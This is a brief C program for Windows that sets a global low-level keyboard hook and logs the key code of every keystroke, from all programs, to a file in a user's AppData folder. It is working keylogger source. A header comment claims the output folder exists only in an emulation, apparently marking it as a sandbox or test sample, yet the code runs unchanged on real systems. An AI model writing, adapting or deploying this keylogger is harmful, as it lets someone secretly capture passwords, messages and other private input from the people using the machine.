/* Hooks the keyboard of all programs; writes into a folder that exists in the emulation only. */
#include <windows.h>
#include <stdio.h>
static LRESULT CALLBACK seen(int code, WPARAM message, LPARAM data) {
    KBDLLHOOKSTRUCT *key = (KBDLLHOOKSTRUCT *)data;
    if (code == 0 && message == WM_KEYDOWN) {
        FILE *file = fopen("C:\\Users\\anna\\AppData\\Roaming\\keys.log", "a");
        if (file) { fprintf(file, "%lu ", key->vkCode); fclose(file); }
    }
    return CallNextHookEx(NULL, code, message, data);
}
int main(void) {
    MSG message;
    HHOOK hook = SetWindowsHookExA(WH_KEYBOARD_LL, seen, GetModuleHandleA(NULL), 0);
    while (GetMessageA(&message, NULL, 0, 0) > 0) { TranslateMessage(&message); DispatchMessageA(&message); }
    UnhookWindowsHookEx(hook);
    return 0;
}
